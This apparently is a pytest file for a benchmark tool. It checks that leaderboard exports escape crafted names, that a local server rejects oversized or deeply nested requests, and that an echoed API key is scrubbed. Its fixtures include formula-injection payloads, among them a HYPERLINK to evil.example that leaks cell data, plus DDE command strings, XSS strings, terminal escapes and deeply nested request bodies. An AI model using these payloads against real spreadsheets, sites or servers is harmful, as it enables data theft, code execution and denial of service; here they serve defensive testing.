"""Hostile outputs and abusive requests: what strangers wrote never runs where tracebench's
outputs are read, and no request to ``trace serve`` costs more than its bounds.

- ``trace leaderboard`` over run folders whose run.json names (generator, judges, the models the
  judges reported, the folder's own name) are formulas, Markdown, HTML and terminal escapes: the
  CSV has no cell a spreadsheet evaluates, the Markdown table keeps its columns and carries no
  HTML and no link, the JSON no raw ``<``, the line printed no control character;
- ``trace serve`` (the zoo on loopback) answered with raw ``http.client`` requests: a body over
  the cap is refused before it is read (413), a bad Content-Length is 400, JSON nested too
  deeply and multipart bodies nested or split too far are 400 (never a 500);
- a judge's server echoing the API key in hex (and in every other form scrubbed): no form of the
  key reaches the run folder, the cache or what the command prints.
"""

from __future__ import annotations

import base64
import csv
import http.client
import io
import json
import re
import shutil
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import test_records
from openai_server import OpenAIStub
from test_cli import run_trace

world = test_records.world

# -- trace leaderboard ----------------------------------------------------------------------------

FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")  # the full-width forms too
CRAFTED_GENERATORS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")\x1b]0;owned\x07',
    "@SUM(1+1)*cmd|' /C calc'!A0 | x |\n| injected | row |\r\n<img src=x onerror=alert(1)>",
)
CRAFTED_JUDGE = "+cmd|'/C calc'!A0 [click](javascript:alert(1)) `code` &lt; \\| <b>"
CRAFTED_MODELS = ("\t=1+1", "\r-2+3", "<script>alert(1)</script>", "](javascript:alert(2))", "a\\", "x\u2028y")


@pytest.fixture(scope="module")
def crafted_runs(world, shared_runs, tmp_path_factory) -> list[Path]:
    """Two real runs of one benchmark and judge setup (the zoo and the oracle), copied into
    folders with a formula for a name, their run.json's names replaced by crafted ones."""
    root = tmp_path_factory.mktemp("crafted-board")
    sources = (world["run"], shared_runs(world["bench"], "synthetic:perfect"))
    runs = []
    for k, (source, generator) in enumerate(zip(sources, CRAFTED_GENERATORS)):
        run = root / f"-{k}+cmd|' =HYPERLINK(x)"
        shutil.copytree(source, run, ignore=shutil.ignore_patterns("cache"))
        manifest = json.loads((run / "run.json").read_text())
        manifest.update(generator=generator, judges=[CRAFTED_JUDGE], judge_models={CRAFTED_JUDGE: list(CRAFTED_MODELS)})
        (run / "run.json").write_text(json.dumps(manifest))
        runs.append(run)
    return runs


@pytest.fixture(scope="module")
def boards(crafted_runs, tmp_path_factory) -> dict[str, tuple[str, str]]:
    """Each format of the board of the crafted runs: suffix -> (its text, what the command printed)."""
    out = tmp_path_factory.mktemp("boards")
    made = {}
    for suffix in ("csv", "md", "json"):
        path = out / f"board.{suffix}"
        result = run_trace("leaderboard", *map(str, crafted_runs), "--protocol", "longbanana", "--out", str(path))
        assert result.returncode == 0, result.stderr
        made[suffix] = (path.read_bytes().decode("utf-8"), result.stdout + result.stderr)  # line ends as written
    return made


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_csv_board_of_crafted_names_has_no_cell_a_spreadsheet_evaluates(boards):
    text, _ = boards["csv"]
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == 2 and all(len(row) == len(header) for row in body)  # no crafted newline split a row
    for row in body:
        cells = dict(zip(header, row))
        for cell in row:
            assert _is_number(cell) or not cell.lstrip(" \n\x0b\x0c").startswith(FORMULA), (cell, row)
        assert cells["name"] in {"'" + g for g in CRAFTED_GENERATORS}  # the text kept, behind a quote
        assert cells["generator"] == cells["name"] and cells["judges"] == "'" + CRAFTED_JUDGE
        assert cells["run"].endswith("=HYPERLINK(x)")
        assert int(cells["rank"]) in (1, 2) and int(cells["cases"]) > 0  # numbers stay numbers
        assert _is_number(cells["avg"]) and _is_number(cells["longbanana P@tau"])


def _cells(line: str) -> list[str]:
    """The cells of a Markdown table row: split at the pipes no backslash escapes."""
    return re.split(r"(?<!\\)(?:\\\\)*\|", line)[1:-1]


def test_the_markdown_board_of_crafted_names_keeps_its_columns_and_carries_no_html_or_link(boards):
    text, _ = boards["md"]
    lines = text.split("\n")
    table = lines[:lines.index("")]
    assert len(table) == 4  # the header, the separator and one row per run: no crafted line break
    widths = {len(_cells(line)) for line in table}
    assert widths == {len(_cells(table[0]))}, table
    assert "<" not in text and ">" not in text and "](" not in text and "\\]\\(" in text
    assert "javascript:" in text and not re.search(r"(?<!\\)\[", text)
    assert "`" not in "\n".join(table).replace("\\`", "")  # no code span in a cell (the notes have theirs)
    assert "\x1b" not in text and "\r" not in text and "\u2028" not in text
    assert "&lt;script&gt;" in text and "&amp;lt;" in text  # shown as text, an entity in a name too


def test_the_json_board_keeps_crafted_names_exactly_without_raw_markup(boards):
    text, _ = boards["json"]
    assert "<" not in text and ">" not in text and "&" not in text and "\u2028" not in text
    board = json.loads(text)
    assert {row["generator"] for row in board["rows"]} == set(CRAFTED_GENERATORS)
    assert board["rows"][0]["judge_models"] == {CRAFTED_JUDGE: list(CRAFTED_MODELS)}


def test_the_line_printed_shows_a_crafted_name_without_control_characters(boards):
    for _, printed in boards.values():
        assert not any(ch in printed for ch in "\x1b\x07\r\t\u2028"), printed
        assert printed.count("\n") == 1


@given(st.text())
@example("=1+1")
@example("\t=cmd")
@example("\r\n-2")
@example("")
@example("'=x")
@example("a\x00b")
def test_a_csv_cell_reads_back_as_one_cell_a_spreadsheet_does_not_evaluate(text):
    from tracebench.score._leaderboard import csv_cell, csv_line

    cell = csv_cell(text)
    assert list(csv.reader(io.StringIO(csv_line([text]), newline=""))) == [[cell]]
    assert not cell.startswith(FORMULA) and not cell.lstrip().startswith(FORMULA)
    assert cell in (text, "'" + text)  # neutralised by one leading quote, nothing else changed


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers(-10**6, 10**6))
def test_a_number_stays_a_number_negative_or_not(number):
    from tracebench.score._leaderboard import csv_cell

    cell = csv_cell(number)
    assert float(cell) == pytest.approx(float(number), rel=1e-5, abs=1e-300)
    assert csv_cell(None) == ""


def _unescaped(cell: str) -> str:
    """What a Markdown renderer shows of a cell: backslash escapes and the three entities undone."""
    shown = re.sub(r"\\(.)", r"\1", cell)
    return shown.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


@given(st.text())
@example("a|b\\|c\n<b>[x](javascript:alert(1))`y`&amp;")
@example("\\")
@example("x\u2028y\x85z\x1b")
def test_a_markdown_cell_has_no_unescaped_pipe_line_break_markup_or_link(text):
    from tracebench.score._leaderboard import markdown_cell

    cell = markdown_cell(text)
    assert len(cell.splitlines()) <= 1 and "\r" not in cell and "\n" not in cell
    assert len(_cells(f"| {cell} |")) == 1  # every pipe of the cell is escaped
    bare = re.sub(r"\\[\\`*_\[\]()|~$!]", "", cell)  # what no backslash escapes
    assert not re.search(r"[\\`*_\[\]()|~$<>]", bare), cell
    assert "](" not in cell and not re.search(r"&(?!lt;|gt;|amp;)", cell)
    assert _unescaped(cell) == "".join(ch if ch.isprintable() or ch == " " else " " for ch in text)


@given(st.text())
@example("\x1b]0;owned\x07")
def test_a_terminal_text_is_one_printable_line(text):
    from tracebench.score._leaderboard import terminal_text

    shown = terminal_text(text)
    assert shown.isprintable() and len(shown) <= 200


@given(st.text())
def test_a_json_text_reads_back_to_the_same_value_without_markup(text):
    from tracebench.score._leaderboard import json_text

    encoded = json_text({"name": text})
    assert json.loads(encoded) == {"name": text} and not set(encoded) & set("<>&\u2028\u2029")


# -- trace serve ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def zoo(world):
    from tracebench.serve import ZooServer

    with ZooServer([world["bench"]]).start() as server:
        yield server


def _post(server, path: str, headers: dict[str, str], body: bytes = b"", *, timeout: float = 10.0):
    """A raw request on a connection of its own: (status, the JSON body, the headers)."""
    host, port = server.server_address[:2]
    connection = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        connection.putrequest("POST", path, skip_accept_encoding=True)
        for name, value in headers.items():
            connection.putheader(name, value)
        connection.endheaders()
        if body:
            connection.send(body)
        response = connection.getresponse()
        return response.status, json.loads(response.read()), response
    finally:
        connection.close()


def _error_message(status: int, body: dict) -> str:
    assert set(body) == {"error"} and body["error"]["type"] == "invalid_request_error", body
    assert isinstance(body["error"]["message"], str) and "Traceback" not in body["error"]["message"]
    return body["error"]["message"]


@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/images/edits", "/v1/images/generations"])
def test_a_body_over_the_cap_is_413_without_being_read(zoo, path):
    from tracebench.serve import MAX_BODY

    for length in (10**12, MAX_BODY + 1):
        # no byte of the body is sent: reading it would wait for the timeout, 10 s
        status, body, response = _post(zoo, path, {"Content-Type": "application/json", "Content-Length": str(length)})
        assert status == 413, body
        assert f"{MAX_BODY // 2**20} MiB" in _error_message(status, body)
        assert response.getheader("Connection") == "close"


@pytest.mark.parametrize("length", ["-1", "abc", "1e3", "+5", " 5_0", "12, 12"])
def test_a_bad_content_length_is_400(zoo, length):
    status, body, _ = _post(zoo, "/v1/chat/completions", {"Content-Type": "application/json",
                                                          "Content-Length": length}, timeout=5.0)
    assert status == 400 and "Content-Length" in _error_message(status, body)


def test_a_chunked_body_is_refused_not_read_as_another_request(zoo):
    status, body, _ = _post(zoo, "/v1/chat/completions", {"Content-Type": "application/json",
                                                          "Transfer-Encoding": "chunked"}, b"2\r\n{}\r\n0\r\n\r\n")
    assert status == 411 and "Content-Length" in _error_message(status, body)


@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/images/generations"])
@pytest.mark.parametrize("nested", [b"[" * 100_000 + b"]" * 100_000, b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
                                    b"[" * 100_000])
def test_json_nested_too_deeply_is_400(zoo, path, nested):
    from tracebench.serve import MAX_JSON_DEPTH

    status, body, _ = _post(zoo, path, {"Content-Type": "application/json", "Content-Length": str(len(nested))},
                            nested)
    assert status == 400 and f"deeper than {MAX_JSON_DEPTH}" in _error_message(status, body)
    # nesting inside a string is text, and a request nested as deep as the limit is read
    fine = json.dumps({"model": "gpt-none", "messages": "[" * 100_000,
                       "deep": json.loads("[" * (MAX_JSON_DEPTH - 1) + "]" * (MAX_JSON_DEPTH - 1))}).encode()
    status, body, _ = _post(zoo, path, {"Content-Type": "application/json", "Content-Length": str(len(fine))}, fine)
    assert status == 404 and "unknown model" in _error_message(status, body)


def _form(boundary: str, parts: list[tuple[str, str, bytes]]) -> bytes:
    """A multipart/form-data body of (name, its Content-Type or '', its bytes)."""
    out = b""
    for name, kind, data in parts:
        out += f"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n".encode()
        out += (f"Content-Type: {kind}\r\n" if kind else "").encode() + b"\r\n" + data + b"\r\n"
    return out + f"--{boundary}--\r\n".encode()


def _nested_form(depth: int) -> bytes:
    body = b"x"
    for level in range(depth):
        body = _form(f"b{level}", [("image[]", f"multipart/mixed; boundary=b{level - 1}" if level else "", body)])
    return body


@pytest.mark.parametrize("attack", ["nested", "parts", "no boundary", "unknown charset"])
def test_a_multipart_body_nested_or_split_too_far_is_400(zoo, attack):
    from tracebench.serve import MAX_FORM_PARTS

    if attack == "nested":
        body, kind = _nested_form(5000), "multipart/form-data; boundary=b4999"
    elif attack == "parts":
        body = _form("x", [("image[]", "image/png", b"p")] * (MAX_FORM_PARTS + 1))
        kind = "multipart/form-data; boundary=x"
    elif attack == "unknown charset":  # a LookupError while decoding the field: a 500 before
        body, kind = _form("x", [("model", "text/plain; charset=nope", b"m")]), "multipart/form-data; boundary=x"
    else:
        body, kind = _form("x", [("model", "", b"m")]), "multipart/form-data"
    status, reply, _ = _post(zoo, "/v1/images/edits", {"Content-Type": kind, "Content-Length": str(len(body))}, body)
    assert status == 400, reply
    message = _error_message(status, reply)
    assert {"nested": "nested", "parts": f"more than {MAX_FORM_PARTS} parts",
            "no boundary": "boundary", "unknown charset": "nope"}[attack] in message


def test_a_real_client_s_image_edit_with_references_is_still_answered(zoo, world):
    """The bounded parser reads what the openai client sends: four reference images and the fields."""
    import openai

    from tracebench.records import read_cases

    case = next(iter(read_cases(world["bench"])))
    client = openai.OpenAI(base_url=zoo.base_url, api_key="x", max_retries=0, timeout=30)
    references = [(f"ref{k}.png", b"\x89PNG" + bytes(2000 * k), "image/png") for k in range(4)]
    reply = client.images.edit(model="synthetic/perfect", prompt=case.prompt, image=references)
    assert base64.b64decode(reply.data[0].b64_json).startswith(b"\x89PNG")


# -- a key echoed in hex --------------------------------------------------------------------------

KEY = "sk-test-Hx7QpR2vW9-hex-echoed-key"


def _hex_echoes(text: str) -> str:
    """The key as a server echoes it in hex: lower, upper and mixed case, alone and inside the
    hex of a longer text (at an even and an odd offset)."""
    raw = text.encode().hex()
    mixed = "".join(ch.upper() if k % 2 else ch for k, ch in enumerate(raw))
    return " ".join([raw, raw.upper(), mixed, f"Bearer {text}".encode().hex(), "a" + f"x:{text}".encode().hex()])


def _key_forms() -> list[str]:
    hexed = KEY.encode().hex()
    return [KEY, KEY.upper(), KEY.lower(), hexed, hexed.upper(), base64.b64encode(KEY.encode()).decode().rstrip("=")]


def test_scrub_replaces_the_hex_form_of_a_key_in_any_case():
    from tracebench.providers import scrub

    hexed = KEY.encode().hex()
    assert scrub(f"key {hexed} / {hexed.upper()}!", (KEY,)) == "key *** / ***!"
    assert hexed not in scrub(_hex_echoes(KEY), (KEY,)).lower()
    # a short placeholder key is no secret: its hex ("78" for "x") stays in a reply's numbers
    assert scrub("78 percent, 0x78", ("x",)) == "78 percent, 0x78"
    short = "s3cr3t7".encode().hex()
    assert scrub(f"key {short}; in a hash a{short}f", ("s3cr3t7",)) == f"key ***; in a hash a{short}f"


def test_a_key_echoed_in_hex_reaches_no_file_and_no_output(world, tmp_path, monkeypatch):
    from test_hostile_replies import answers, question_ids

    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    echo = _hex_echoes(KEY)

    def handler(request):
        if len(stub.requests) == 1:
            return 400, f"denied for {echo}"
        if len(stub.requests) == 2:
            return f"I cannot parse {echo}"  # not JSON: the raw snippet is stored
        return answers(question_ids(request), reason=f"key {echo}")

    with OpenAIStub(handler) as stub:
        result = run_trace("run", str(world["bench"]), "--generator", "synthetic:perfect", "--judge",
                           f"openai:stub-model@{stub.base_url}", "--max-retries", "0", "--concurrency", "1",
                           "--out", str(tmp_path / "run"))
    assert result.returncode == 3, result.stderr  # the two calls answered no question: abstentions
    stored = (tmp_path / "run" / "verdicts.jsonl").read_text()
    assert "denied for ***" in stored and "cannot parse ***" in stored and "key ***" in stored
    found = [f"{path}: {form}" for path in tmp_path.rglob("*") if path.is_file()
             for form in _key_forms() if form.encode() in path.read_bytes()]
    found += [f"output: {form}" for form in _key_forms() if form in result.stdout + result.stderr]
    assert found == []
